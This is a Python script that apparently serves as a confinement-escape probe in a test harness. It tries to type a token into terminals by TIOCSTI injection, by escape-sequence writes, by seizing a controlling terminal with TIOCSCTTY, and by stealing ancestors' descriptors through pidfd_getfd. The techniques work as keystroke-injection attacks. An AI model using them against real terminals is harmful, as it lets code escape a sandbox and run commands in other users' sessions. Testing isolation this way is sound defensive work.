"""Types into the terminal of whoever runs it, and writes to it past everything that cleans what is shown."""
import fcntl
import glob
import os
import termios

from attempts import ancestors, aside, attempt, call, confined, processes, targets

text = targets["token"] + "\r\n"
TIOCSTI = 0x5412


def terminals():
    # Elsewhere nobody else's is touched.
    if not confined:
        return [targets["terminal"]]
    found = {"/dev/tty", "/dev/console", targets["terminal"], *glob.glob("/dev/pts/[0-9]*")}
    for pid in processes():
        for number in range(0, 30):
            try:
                path = os.readlink(f"/proc/{pid}/fd/{number}")
            except OSError:
                continue
            if path.startswith(("/dev/pts/", "/dev/tty")):
                found.update((path, f"/proc/{pid}/fd/{number}"))
    return sorted(found)


def type_into(path):
    one = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    try:
        for letter in text:
            fcntl.ioctl(one, TIOCSTI, letter.encode())
        return True
    finally:
        os.close(one)


def write_to(path):
    one = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
    try:
        return os.isatty(one) and os.write(one, ("\x1b]0;" + text + "\x07" + text).encode()) > 0
    finally:
        os.close(one)


def each(work, paths):
    worked = []
    for path in paths:
        try:
            if work(path):
                worked.append(path)
        except OSError:
            continue
    return worked


def take_over(path):
    """A session of its own takes the terminal, and then may type."""

    def work():
        os.setsid()
        one = os.open(path, os.O_RDWR)
        for steal in (0, 1):
            try:
                fcntl.ioctl(one, termios.TIOCSCTTY, steal)
            except OSError:
                pass
        return type_into(path)

    return aside(work)()


def by_descriptor():
    """A descriptor that it was given, or one of who runs it."""
    worked = each(type_into, [f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd")])
    for pid in ancestors():
        try:
            holder = call("pidfd_open", pid, 0)
            for number in range(0, 30):
                one = call("pidfd_getfd", holder, number, 0)
                if os.isatty(one) and (confined or os.ttyname(one) == targets["terminal"]):
                    worked.append(f"{pid} {number}")
        except OSError:
            continue
    return worked


attempt("typing", lambda: each(type_into, terminals()))
attempt("writing", lambda: each(write_to, terminals()))
attempt("typing into one that it takes over", lambda: each(take_over, terminals()))
attempt("by descriptors", by_descriptor)
